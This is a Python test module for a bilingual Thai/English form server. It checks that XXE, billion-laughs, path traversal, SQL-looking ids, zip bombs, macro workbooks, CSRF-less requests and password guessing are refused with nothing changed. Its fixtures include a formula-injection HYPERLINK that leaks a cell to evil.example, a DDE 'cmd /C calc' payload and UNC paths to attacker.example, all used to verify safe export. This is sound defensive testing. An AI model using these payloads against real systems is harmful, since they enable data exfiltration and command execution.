"""A catalogue of bad input: each case is refused with words a person can act on, and nothing anyone owns changes.

Each row of ``CASES`` says what is sent (by a phone to ``/submission`` through the application's own WSGI front,
or by a person to a page or as an XLSForm upload), the status expected and words the answer must carry, in Thai and
in English: a phone shows both at once, a page is read in either (each web case is sent once in each). The
``unchanged`` fixture takes the rows of every data table (audit entries, the sign-in throttling counters and signed-in browsers
excepted) and the sha256 of every file in the data folder (attachments, media, exports, unfinished uploads) before
the case, and compares them after. The world is the two organisations of ``web_fixtures``, built once for the
module: no case may change it, and each checks that it did not.

A body that stops half-way is tested here as the application sees it (a ``wsgi.input`` that ends early or breaks);
what the server process does with an idle connection belongs with ``formserver serve``'s own tests.
"""

from __future__ import annotations

import csv
import hashlib
import io
import socket
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from xml.sax.saxutils import escape

import openpyxl
import pytest
from sqlalchemy import select

from formserver import forms
from formserver.accounts import organisation_by_slug
from formserver.config import Settings
from formserver.db import reading_session
from formserver.exports.export import run_export
from formserver.models import AppUser, Base, Submission, SubmissionAttachment, User
from formserver.openrosa.auth import NONCE_LIFETIME, make_nonce
from formserver.problems import Problem
from formserver.workbooks import Limits
from formserver.xlsform import FormError, convert

from .bad_input import (
    LAUGHS,
    XXE,
    Answer,
    HalfWay,
    Sender,
    disposition,
    lying_zip,
    nested,
    not_a_workbook_zip,
    questions,
    survey,
    with_doctype,
    with_entity_in_sheet,
    with_external_link,
    with_macros,
    xls_with_macros,
    xml_part,
    zip_bomb,
)
from .collect_client import as_xform, multipart_body
from .conftest import shared_path
from .web_fixtures import CSRF, PASSWORD, PHOTO, instance, shared_app, shared_settings, shared_web, submit  # noqa: F401
from .xlsforms import simple_form

NOT_STORED = ("จึงยังไม่ได้บันทึก", "Nothing was stored")
NOT_XML = ("ข้อมูลที่ส่งมาไม่ใช่ XML ที่ถูกต้อง", "The submission is not valid XML")
NO_XML_PART = ("ไม่พบไฟล์ข้อมูล (xml_submission_file)", "no xml_submission_file part")
CUT_OFF = ("การส่งข้อมูลขาดหายกลางทาง", "The upload was cut off before its end")
BAD_NAME = ("ไม่ได้ ชื่อไฟล์ต้องไม่มีโฟลเดอร์", "cannot be stored: a file name has no folders", *NOT_STORED)
SIGN_IN = ("โปรดลงชื่อเข้าใช้ด้วยอีเมลและรหัสผ่าน", "Sign in with your e-mail address and password")
MAY_NOT_SEND = ("ไม่มีสิทธิ์ส่งข้อมูลให้หน่วยงาน hillnet", "This account may not send submissions to organisation hillnet")
NOT_CONVERTED = ("แปลงแบบฟอร์มไม่ได้ ยังไม่ได้บันทึกอะไร", "The form could not be converted. Nothing was stored.")
NOT_A_FORM = ("ไม่ใช่ XLSForm (.xlsx หรือ .xls) หรือ XForm (.xml)", "is not an XLSForm (.xlsx or .xls) or an XForm (.xml)")
MACROS = ("มีแมโคร ซึ่งรับไม่ได้", "contains macros, which are not accepted")
CSRF_REFUSED = ("หมดอายุหรือมาจากเว็บไซต์อื่น", "This form has expired or came from another site")
NOTHING_HERE = ("ไม่มีหน้านี้ หรือคุณไม่มีสิทธิ์ดู", "There is nothing at this address, or you may not see it.")
BAD_EXPORT_OPTION = ("ตัวเลือกการส่งออกนี้ไม่ถูกต้อง", "This export option is not valid")


def question(kind: str, name: str) -> dict:
    return {"type": kind, "name": name, "label": name.upper()}


def place(row: int, column: str, sheet: str = "survey") -> tuple[str, ...]:
    """Where the upload page says a form is wrong."""
    return (f'<dd class="sheet">{sheet}</dd>', f'<dd class="row">{row}</dd>', f'<dd class="column">{column}</dd>')


def good(instance_id: str = "uuid:bad-input") -> bytes:
    """An instance of hillnet's intake form that would be stored, but for what each case changes."""
    return instance(instance_id)


def multipart(xml: bytes) -> tuple[bytes, str]:
    """(body, content type) of a submission with its photo, as Collect sends it."""
    return multipart_body([("xml_submission_file", "x.xml", "text/xml", xml), ("photo.png", "photo.png", "image/png", PHOTO)])


@dataclass(frozen=True)
class Case:
    id: str
    send: Callable[[Sender], Answer]
    status: int
    words: tuple[str, ...]


CASES = [
    # ---- phones: the instance XML
    Case("xml-external-entity", lambda s: s.submit(with_doctype(XXE, "secret")), 400, (*NOT_XML, "DOCTYPE")),
    Case("xml-billion-laughs", lambda s: s.submit(with_doctype(LAUGHS, "lol4")), 400, (*NOT_XML, "DOCTYPE")),
    Case("xml-dtd", lambda s: s.submit(with_doctype(b"<!DOCTYPE data [<!ELEMENT data ANY>]>")), 400, (*NOT_XML, "DOCTYPE")),
    Case(
        "xml-external-dtd",
        lambda s: s.submit(with_doctype(b'<!DOCTYPE data SYSTEM "http://127.0.0.1:9/evil.dtd">')),
        400,
        (*NOT_XML, "DOCTYPE"),
    ),
    Case("xml-nested-10000-deep", lambda s: s.submit(nested(10_000)), 400, (*NOT_XML, "nested too deeply")),
    Case(
        "xml-invalid-utf8",
        lambda s: s.submit(good().replace("สมชาย".encode(), b"\xff\xfe\xfd")),
        400,
        (*NOT_XML, "Invalid bytes in character encoding"),
    ),
    Case("xml-not-xml", lambda s: s.submit(b"name=somchai&members=3"), 400, (*NOT_XML, "Start tag expected")),
    Case("xml-zero-bytes", lambda s: s.submit(b""), 400, (*NOT_XML, "Document is empty")),
    Case("xml-cut-short", lambda s: s.submit(good()[:-40]), 400, NOT_XML),
    Case(
        "xml-names-another-organisations-form",
        lambda s: s.submit(good().replace(b'id="intake"', b'id="river_only"')),
        404,
        ("ไม่พบแบบฟอร์ม river_only ในหน่วยงานนี้", "There is no form river_only in this organisation"),
    ),
    Case(
        "xml-form-id-looks-like-sql",
        lambda s: s.submit(good().replace(b'id="intake"', b"id=\"intake' OR '1'='1\"")),
        404,
        ("ไม่พบแบบฟอร์ม intake' OR '1'='1", "There is no form intake' OR '1'='1 in this organisation"),
    ),
    Case(
        "xml-form-id-looks-like-a-path",
        lambda s: s.submit(good().replace(b'id="intake"', b'id="../rivernet/intake"')),
        404,
        ("ไม่พบแบบฟอร์ม ../rivernet/intake", "There is no form ../rivernet/intake"),
    ),
    Case(
        "xml-no-form-id",
        lambda s: s.submit(good().replace(b' id="intake"', b"")),
        400,
        ("ไม่ระบุรหัสแบบฟอร์ม", "does not say which form"),
    ),
    Case(
        "xml-no-instance-id",
        lambda s: s.submit(good().replace(b"<instanceID>uuid:bad-input</instanceID>", b"")),
        400,
        ("ไม่มีรหัสรายการ (meta/instanceID)", "has no meta/instanceID"),
    ),
    Case("xml-instance-id-of-300-characters", lambda s: s.submit(good("uuid:" + "a" * 295)), 400, (*NOT_XML, "255")),
    Case(
        "xml-unknown-version",
        lambda s: s.submit(good().replace(b'version="1"', b'version="99"')),
        404,
        ("ไม่มีเวอร์ชัน 99", "Form intake has no version 99"),
    ),
    # ---- phones: the multipart body and its files
    Case("no-xml-submission-file", lambda s: s.submit_parts([disposition("photo.png")]), 400, NO_XML_PART),
    Case(
        "file-name-with-dot-dot",
        lambda s: s.submit(good(), [("../../etc/passwd", PHOTO)]),
        400,
        (*BAD_NAME, "ใช้ชื่อไฟล์ ../../etc/passwd", "The file name ../../etc/passwd"),
    ),
    Case("file-name-absolute", lambda s: s.submit(good(), [("/etc/passwd", PHOTO)]), 400, (*BAD_NAME, "/etc/passwd")),
    Case(
        "file-name-windows-path",
        lambda s: s.submit_parts([xml_part(good()), disposition(b"C:\\\\Users\\\\odk\\\\photo.png")]),
        400,
        (*BAD_NAME, "C:\\Users\\odk\\photo.png"),
    ),
    Case(
        "file-name-with-backslashes-encoded",
        lambda s: s.submit_parts([xml_part(good()), disposition(b"..%5C..%5Cphoto.png", extended=True)]),
        400,
        (*BAD_NAME, "..\\..\\photo.png"),
    ),
    Case(
        "file-name-with-a-nul-byte",
        lambda s: s.submit_parts([xml_part(good()), disposition(b"photo.png\x00.exe")]),
        400,
        (*BAD_NAME, "photo.png?.exe"),
    ),
    Case(
        "file-name-with-a-nul-byte-encoded",
        lambda s: s.submit_parts([xml_part(good()), disposition(b"photo.png%00.exe", extended=True)]),
        400,
        (*BAD_NAME, "photo.png?.exe"),
    ),
    Case("file-name-dot-dot-alone", lambda s: s.submit_parts([xml_part(good()), disposition(b"..")]), 400, BAD_NAME),
    Case(
        "file-name-of-300-characters",
        lambda s: s.submit(good(), [("a" * 296 + ".png", PHOTO)]),
        400,
        (*BAD_NAME, "a" * 59 + "…"),
    ),
    Case(
        "file-names-differing-only-in-case",
        lambda s: s.submit(good(), [("photo.png", PHOTO), ("PHOTO.png", b"another photo")]),
        400,
        ("ไฟล์ photo.png และ PHOTO.png มีชื่อต่างกันแค่ตัวพิมพ์", "differ only in capital letters", *NOT_STORED),
    ),
    Case(
        "file-over-the-limit",
        lambda s: s.submit(good(), [("photo.png", b"p" * 10_001)], app=s.small_app()),
        413,
        ("photo.png ใหญ่เกินขีดจำกัด 0.01 MB", "photo.png is larger than the limit of 0.01 MB", *NOT_STORED),
    ),
    Case(
        "body-over-the-limit-in-many-small-files",
        lambda s: s.submit(good(), [(f"p{n}.png", b"p" * 9_000) for n in range(120)], app=s.small_app()),
        413,
        ("ข้อมูลที่ส่งมาใหญ่เกินขีดจำกัด 0.01 MB", "The upload is larger than the limit of 0.01 MB", *NOT_STORED),
    ),
    Case("multipart-truncated", lambda s: s.post(*_cut(multipart(good()), 0.6)), 400, CUT_OFF),
    Case("multipart-without-closing-boundary", lambda s: s.post(*_unclosed(multipart(good()))), 400, CUT_OFF),
    Case(
        "multipart-boundary-never-found",
        lambda s: s.post(b"just some bytes", "multipart/form-data; boundary=nowhere"),
        400,
        NO_XML_PART,
    ),
    Case("content-type-text-xml", lambda s: s.post(good(), "text/xml"), 400, NO_XML_PART),
    Case("content-type-missing", lambda s: s.post(multipart(good())[0], ""), 400, NO_XML_PART),
    Case(
        "content-type-form-urlencoded",
        lambda s: s.post(b"xml_submission_file=" + good(), "application/x-www-form-urlencoded"),
        400,
        NO_XML_PART,
    ),
    Case(
        "content-type-multipart-mixed",
        lambda s: s.post(multipart(good())[0], multipart(good())[1].replace("form-data", "mixed")),
        400,
        NO_XML_PART,
    ),
    Case("request-stops-sending-half-way", lambda s: _half_way(s, None), 400, CUT_OFF),
    Case("connection-reset-half-way", lambda s: _half_way(s, ConnectionResetError), 400, CUT_OFF),
    # ---- phones: who is sending
    Case(
        "revoked-device-token",
        lambda s: s.submit(good(), path=f"/key/{s.tokens['revoked']}/o/hillnet/submission"),
        401,
        ("ถูกเพิกถอนแล้ว", "not valid or was revoked"),
    ),
    Case(
        "unknown-device-token",
        lambda s: s.submit(good(), path=f"/key/{'x' * 64}/o/hillnet/submission"),
        401,
        ("ถูกเพิกถอนแล้ว", "not valid or was revoked"),
    ),
    Case(
        "another-organisations-device-token",
        lambda s: s.submit(good(), path=f"/key/{s.tokens['river']}/o/hillnet/submission"),
        403,
        ("บัญชีนี้ไม่มีสิทธิ์ใช้แบบฟอร์มของหน่วยงาน hillnet", "may not use the forms of organisation hillnet"),
    ),
    Case(
        "digest-replayed-with-a-stale-nonce",
        lambda s: s.submit_as("collector@hill.example", nonce=make_nonce(s.settings.secret_key, time.time() - NONCE_LIFETIME - 9)),
        401,
        (*SIGN_IN, "stale=true"),
    ),
    Case(
        "digest-with-another-servers-nonce",
        lambda s: s.submit_as("collector@hill.example", nonce=make_nonce("another server's key")),
        401,
        SIGN_IN,
    ),
    Case("digest-with-a-wrong-password", lambda s: s.submit_as("collector@hill.example", password="guess"), 401, SIGN_IN),
    Case("digest-as-a-viewer", lambda s: s.submit_as("viewer@hill.example"), 403, MAY_NOT_SEND),
    Case("digest-as-another-organisations-manager", lambda s: s.submit_as("manager@river.example"), 403, MAY_NOT_SEND),
    # ---- phones: addresses with SQL-looking or path-looking text
    Case(
        "form-download-id-looks-like-sql",
        lambda s: s.wsgi("GET", f"/key/{s.tokens['hill']}/o/hillnet/forms/intake' OR '1'='1.xml"),
        404,
        ("ไม่พบแบบฟอร์ม intake' OR '1'='1", "There is no form intake' OR '1'='1 here"),
    ),
    Case(
        "media-download-name-looks-like-a-path",
        lambda s: s.wsgi("GET", f"/key/{s.tokens['hill']}/o/hillnet/forms/intake/media/..%2F..%2Fsecret_key"),
        404,
        ("ไม่มีอะไรที่ที่อยู่นี้", "There is nothing at this address: check the server URL"),
    ),
    Case(
        "submission-slug-looks-like-sql",
        lambda s: s.submit(good(), path=f"/key/{s.tokens['hill']}/o/hillnet' OR '1'='1/submission"),
        403,
        ("หน่วยงาน hillnet' OR '1'='1", "organisation hillnet' OR '1'='1"),
    ),
    # ---- people: XLSForm uploads
    Case(
        "xlsform-zip-bomb",
        lambda s: s.upload(zip_bomb(), "bomb.xlsx"),
        413,
        ("ไฟล์ bomb.xlsx เมื่อแตกออกแล้วใหญ่เกิน 50 MB", "bomb.xlsx unpacks to more than 50 MB", *NOT_STORED),
    ),
    Case("xlsform-zip-lying-about-its-sizes", lambda s: s.upload(lying_zip(), "lie.xlsx"), 400, (*NOT_A_FORM, "lie.xlsx")),
    Case("xlsform-with-macros-by-name", lambda s: s.upload(simple_form(), "form.xlsm"), 400, (*MACROS, "form.xlsm")),
    Case("xlsform-with-macros-inside", lambda s: s.upload(with_macros(), "form.xlsx"), 400, (*MACROS, "form.xlsx")),
    Case("xls-with-macros", lambda s: s.upload(xls_with_macros(), "form.xls"), 400, (*MACROS, "form.xls")),
    Case("xlsform-not-a-spreadsheet", lambda s: s.upload(b"type,name,label\ntext,q,Q\n", "form.xlsx"), 400, NOT_A_FORM),
    Case(
        "xlsform-markdown-named-xlsx",
        lambda s: s.upload(b"| survey |\n| | type | name | label |\n| | text | q | Q |\n", "form.xlsx"),
        400,
        NOT_A_FORM,
    ),
    Case("xlsform-pdf-named-xls", lambda s: s.upload(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "form.xls"), 400, NOT_A_FORM),
    Case("xlsform-a-word-document", lambda s: s.upload(not_a_workbook_zip(), "form.xlsx"), 400, NOT_A_FORM),
    Case("xlsform-zero-bytes", lambda s: s.upload(b"", "form.xlsx"), 400, NOT_A_FORM),
    Case("xlsform-wrong-suffix", lambda s: s.upload(simple_form(), "form.pdf"), 400, (*NOT_A_FORM, "form.pdf")),
    Case("xlsform-entity-in-a-sheet", lambda s: s.upload(with_entity_in_sheet(), "form.xlsx"), 400, NOT_A_FORM),
    Case(
        "xform-with-an-external-entity",
        lambda s: s.upload(XXE + as_xform(simple_form()).split(b"?>", 1)[-1], "form.xml"),
        400,
        (*NOT_CONVERTED, "DOCTYPE"),
    ),
    Case(
        "xlsform-of-10001-rows",
        lambda s: s.upload(questions(10_001), "big.xlsx"),
        413,
        ("มีเกิน 10,000 แถว", "have more than 10,000 rows", "select_one_from_file"),
    ),
    Case(
        "xlsform-unknown-type-txet",
        lambda s: s.upload(survey([question("text", "a"), question("txet", "b")]), "f.xlsx"),
        400,
        (*NOT_CONVERTED, *place(3, "type"), "Unknown question type 'txet'"),
    ),
    Case(
        "xlsform-list-missing-from-choices",
        lambda s: s.upload(survey([question("select_one yesno", "a")], [{"list_name": "no", "name": "x", "label": "X"}]), "f.xlsx"),
        400,
        (*NOT_CONVERTED, *place(2, "type"), "List name not in choices sheet: yesno"),
    ),
    Case(
        "xlsform-no-choices-sheet",
        lambda s: s.upload(survey([question("text", "a"), question("select_one yesno", "b")]), "f.xlsx"),
        400,
        (*NOT_CONVERTED, *place(3, "type"), "There should be a choices sheet"),
    ),
    # ---- people: changes without the session's CSRF token
    Case("upload-without-csrf-token", lambda s: s.upload(simple_form(), "s.xlsx", csrf=None), 400, CSRF_REFUSED),
    Case("upload-with-a-wrong-csrf-token", lambda s: s.upload(simple_form(), "s.xlsx", csrf="forged"), 400, CSRF_REFUSED),
    Case(
        "review-without-csrf-token",
        lambda s: s.page("POST", f"/orgs/hillnet/submissions/{s.world.own.submission}/review", data={"state": "approved"}),
        400,
        CSRF_REFUSED,
    ),
    Case(
        "new-device-account-with-a-wrong-csrf-token",
        lambda s: s.page("POST", "/orgs/hillnet/phones", data={"name": "stolen", "csrf_token": "forged"}),
        400,
        CSRF_REFUSED,
    ),
    Case(
        "sign-in-without-csrf-token",
        lambda s: s.page("POST", "/login", user=None, data={"email": "manager@hill.example", "password": PASSWORD}),
        400,
        CSRF_REFUSED,
    ),
    # ---- people: a signed-in manager of rivernet guessing hillnet's ids
    *[
        Case(f"another-organisations-{what}", lambda s, url=url: s.guess(url(s.world.own)), 404, NOTHING_HERE)
        for what, url in [
            ("form", lambda own: "/orgs/hillnet/forms/intake"),
            ("submission", lambda own: f"/orgs/rivernet/submissions/{own.submission}"),
            ("submission-xml", lambda own: f"/orgs/rivernet/submissions/{own.submission}/xml"),
            ("attachment", lambda own: f"/orgs/rivernet/submissions/{own.submission}/attachments/photo.png"),
            ("attachment-at-its-address", lambda own: f"/orgs/hillnet/submissions/{own.submission}/attachments/photo.png"),
            ("export-job", lambda own: f"/orgs/rivernet/exports/{own.job}"),
            ("export-file", lambda own: f"/orgs/rivernet/exports/{own.job}/download"),
            ("form-version-xlsform", lambda own: f"/orgs/rivernet/forms/intake/versions/{own.published_version}/xlsform"),
            ("kept-aside-submission", lambda own: f"/orgs/rivernet/conflicts/{own.conflict}"),
            ("device-account", lambda own: f"/orgs/rivernet/phones/{own.app_user}"),
        ]
    ],
    Case(
        "another-organisations-submission-reviewed",
        lambda s: s.page(
            "POST",
            f"/orgs/rivernet/submissions/{s.world.own.submission}/review",
            user=s.world.other.manager,
            data={"state": "rejected", "csrf_token": CSRF},
        ),
        404,
        NOTHING_HERE,
    ),
    # ---- people: addresses and export filters with SQL-looking or path-looking text
    Case("slug-looks-like-sql", lambda s: s.page("GET", "/orgs/hillnet'%20OR%20'1'='1/forms/intake"), 404, NOTHING_HERE),
    Case("form-id-looks-like-sql", lambda s: s.page("GET", "/orgs/hillnet/forms/intake'%20OR%20'1'='1"), 404, NOTHING_HERE),
    Case("form-id-looks-like-a-path", lambda s: s.page("GET", "/orgs/hillnet/forms/..%2F..%2Fadmin%2Fusers"), 404, NOTHING_HERE),
    Case(
        "export-filter-looks-like-sql",
        lambda s: s.export({"since": "2026-01-01' OR '1'='1"}),
        400,
        (*BAD_EXPORT_OPTION, "since"),
    ),
    Case(
        "export-filter-looks-like-a-path",
        lambda s: s.export({"until": "../../../etc/passwd"}),
        400,
        (*BAD_EXPORT_OPTION, "until"),
    ),
    Case(
        "export-format-looks-like-a-path",
        lambda s: s.export({"format": "../../x"}),
        400,
        (*BAD_EXPORT_OPTION, "format"),
    ),
    # ---- people: guessing a password
    Case("100-wrong-passwords-in-a-row", lambda s: _guessing(s, 100), 429, ("ผิดหลายครั้งเกินไป โปรดรอ", "Too many failed", "Wait")),
]


def _cut(request: tuple[bytes, str], share: float) -> tuple[bytes, str]:
    body, content_type = request
    return body[: int(len(body) * share)], content_type


def _unclosed(request: tuple[bytes, str]) -> tuple[bytes, str]:
    body, content_type = request
    return body[: body.rindex(b"\r\n--")], content_type


def _half_way(s: Sender, error) -> Answer:
    body, content_type = multipart(good())
    path = f"/key/{s.tokens['hill']}/o/hillnet/submission"
    return s.wsgi("POST", path, HalfWay(body, len(body) // 2, error), len(body), content_type)


def _guessing(s: Sender, times: int) -> Answer:
    """``times`` wrong passwords for hillnet's viewer, then the right one (in Thai and in English)."""
    client = s.client(None)
    email = "viewer@hill.example"
    guesses = [client.post("/login", data={"email": email, "password": f"guess {n}", "csrf_token": CSRF}) for n in range(times)]
    assert {response.status_code for response in guesses} == {401, 429}  # refused, then refused without checking
    return s.page("POST", "/login", user=None, data={"email": email, "password": PASSWORD, "csrf_token": CSRF})


# --------------------------------------------------------------------------- the world and its snapshot


FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0")


@pytest.fixture(scope="module")
def sender(shared_app, shared_settings, shared_web):
    """The two organisations, with a form only rivernet has, and answers in hillnet that look like formulas."""
    database, blobs = shared_app.extensions["formserver.db"], shared_app.extensions["formserver.blobs"]
    with database.session_scope() as session:
        river, hill = organisation_by_slug(session, "rivernet"), organisation_by_slug(session, "hillnet")
        forms.add_form_version(session, blobs, river, as_xform(simple_form("river_only")), "river.xml")
        formulas = instance("uuid:formulas", name=escape(FORMULAS[0]), photo=None).replace(
            "<member_name>นิด</member_name>".encode(), f"<member_name>{escape(FORMULAS[1])}</member_name>".encode()
        )
        submit(session, blobs, hill, formulas)
        tokens = {
            name: session.get(AppUser, app_user).token
            for name, app_user in (
                ("hill", shared_web.own.app_user),
                ("revoked", shared_web.own.revoked_app_user),
                ("river", shared_web.other.app_user),
            )
        }
    sender = Sender(shared_app, shared_settings, shared_web, tokens)
    yield sender
    sender.close()


THROTTLING = {
    (User.__tablename__, column)
    for column in ("failed_sign_ins", "last_failed_sign_in_at", "failed_phone_sign_ins", "last_failed_phone_sign_in_at")
}


def snapshot(sender: Sender) -> tuple[dict, dict]:
    """Every data table's rows (but audit entries, sign-in throttling counters and signed-in browsers), and every
    data file's sha256."""
    tables = {}
    with sender.app.extensions["formserver.db"].engine.connect() as connection:
        for table in Base.metadata.sorted_tables:
            if table.name in ("audit_event", "web_session"):
                continue
            columns = [column for column in table.columns if (table.name, column.name) not in THROTTLING]
            tables[table.name] = connection.execute(select(*columns).order_by(*table.primary_key.columns)).all()
    data = sender.settings.data_dir
    files = {str(path.relative_to(data)): _sha256(path) for path in data.rglob("*") if path.is_file()}
    return tables, files


def _sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def unchanged(sender):
    """Fails the test if any row or file a user owns changed while it ran."""
    tables, files = snapshot(sender)
    yield
    tables_after, files_after = snapshot(sender)
    assert [name for name in tables if tables_after[name] != tables[name]] == [], "data tables changed"
    assert files_after == files, "files in the data folder changed"


# --------------------------------------------------------------------------- the catalogue


def test_the_catalogue_has_at_least_40_cases_each_named_once():
    assert len(CASES) >= 40
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_bad_input_is_refused_in_words_and_changes_nothing(case, sender, unchanged):
    answer = case.send(sender)
    assert answer.status == case.status, answer.text[:2000]
    missing = [word for word in case.words if word not in answer.text]
    assert not missing, f"{missing} not in {answer.text[:3000]}"


# --------------------------------------------------------------------------- what is accepted, but never run or followed


def test_formula_like_answers_reach_an_export_as_text(sender, unchanged, tmp_path):
    database = sender.app.extensions["formserver.db"]
    with database.session_scope() as session:
        organisation = organisation_by_slug(session, "hillnet")
        form = forms.form_by_id(session, organisation, "intake")
        for kind in ("csv", "xlsx"):
            with reading_session(sender.settings) as reading:
                run_export(reading, sender.settings, organisation, form, {"format": kind}, tmp_path / f"export.{kind}")
    with zipfile.ZipFile(tmp_path / "export.csv") as csv_zip:
        texts = [csv_zip.read(name).decode("utf-8-sig") for name in csv_zip.namelist()]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    assert {"'" + text for text in FORMULAS} <= set(cells)  # a leading quote: a spreadsheet shows it as text
    with zipfile.ZipFile(tmp_path / "export.xlsx") as workbook:
        sheets = [workbook.read(name) for name in workbook.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no cell is a formula
    workbook = openpyxl.load_workbook(tmp_path / "export.xlsx")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.value: cell.data_type for cell in cells if cell.value in FORMULAS} == {text: "s" for text in FORMULAS}


def test_external_links_in_an_xlsform_are_never_followed(monkeypatch, tmp_path):
    tried = []

    def refuse(*args, **kwargs):
        tried.append(args)
        raise OSError("no network in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    secret = tmp_path / "secret.xlsx"
    for target in ("http://127.0.0.1:9/secret.xlsx", "\\\\attacker.example\\share\\secret.xlsx", secret.as_uri()):
        converted = convert(with_external_link(target), "linked.xlsx")
        assert b"<label>Name</label>" in converted.xform and b"leaked" not in converted.xform  # the cached value
    assert tried == []


def test_a_form_of_10000_rows_converts_within_the_documented_time():
    """README › Form designers: 10,000 questions convert in 2–5 s on a 2-core server; 30 s would be a change of kind."""
    workbook = questions(10_000)
    started = time.perf_counter()
    converted = convert(workbook, "big.xlsx")
    assert time.perf_counter() - started < 30
    assert converted.xform.count(b"<label>Question ") == 10_000


def test_the_row_limit_is_a_setting_and_counts_an_xls_too(tmp_path):
    settings = Settings.from_env({"FORMSERVER_XLSFORM_MAX_ROWS": "20", "FORMSERVER_DATA_DIR": str(tmp_path)})
    assert Limits.of(settings) == Limits(uncompressed_bytes=50_000_000, rows=20)
    with pytest.raises(Problem) as refused:
        convert(questions(21), "big.xlsx", limits=Limits(rows=20))
    assert refused.value.code == "form.too_many_rows" and "more than 20 rows" in refused.value.en
    convert(questions(20), "big.xlsx", limits=Limits(rows=20))
    widgets = shared_path("corpus", "xlsforms", "pyxform", "widgets.xls").read_bytes()  # 58 rows with values
    with pytest.raises(Problem, match="more than 57 rows"):
        convert(widgets, "widgets.xls", limits=Limits(rows=57))
    convert(widgets, "widgets.xls", limits=Limits(rows=58))


def test_an_empty_file_is_not_stored_so_that_the_real_one_completes_the_submission(sender):
    assert sender.submit(good("uuid:empty-photo"), [("photo.png", b"")]).status == 201
    assert stored_files(sender, "uuid:empty-photo") == []
    assert sender.submit(good("uuid:empty-photo"), [("photo.png", PHOTO)]).status == 201  # Collect sends it again
    assert stored_files(sender, "uuid:empty-photo") == [("photo.png", len(PHOTO))]


def stored_files(sender: Sender, instance_id: str) -> list[tuple[str, int]]:
    with sender.app.extensions["formserver.db"].session_scope() as session:
        query = select(SubmissionAttachment.name, SubmissionAttachment.size).join(Submission)
        return [tuple(row) for row in session.execute(query.where(Submission.instance_id == instance_id))]


def test_a_form_error_without_a_place_in_pyxforms_words_gets_one_from_the_workbook():
    for rows, choices, where in [
        ([question("text", "a"), question("txet", "b")], None, ("survey", 3, "type")),
        ([question("text", "a"), question("TXET", "b")], None, ("survey", 3, "type")),
        ([question("select_one yesno", "a")], [{"list_name": "x", "name": "y", "label": "Y"}], ("survey", 2, "type")),
        ([question("text", "a"), question("select_multiple yesno", "b")], None, ("survey", 3, "type")),
        ([question("note", "a"), question("select_one_from_file v.csv", "b"), question("rank yesno", "c")], None, ("survey", 4, "type")),
        ([question("calculate", "total")], None, ("survey", 2, "calculation")),
        ([question("text", "a"), question("text", "a")], None, ("survey", 3, "name")),
    ]:
        with pytest.raises(FormError) as refused:
            convert(survey(rows, choices), "broken.xlsx")
        assert (refused.value.sheet, refused.value.row, refused.value.column) == where, refused.value.describe()
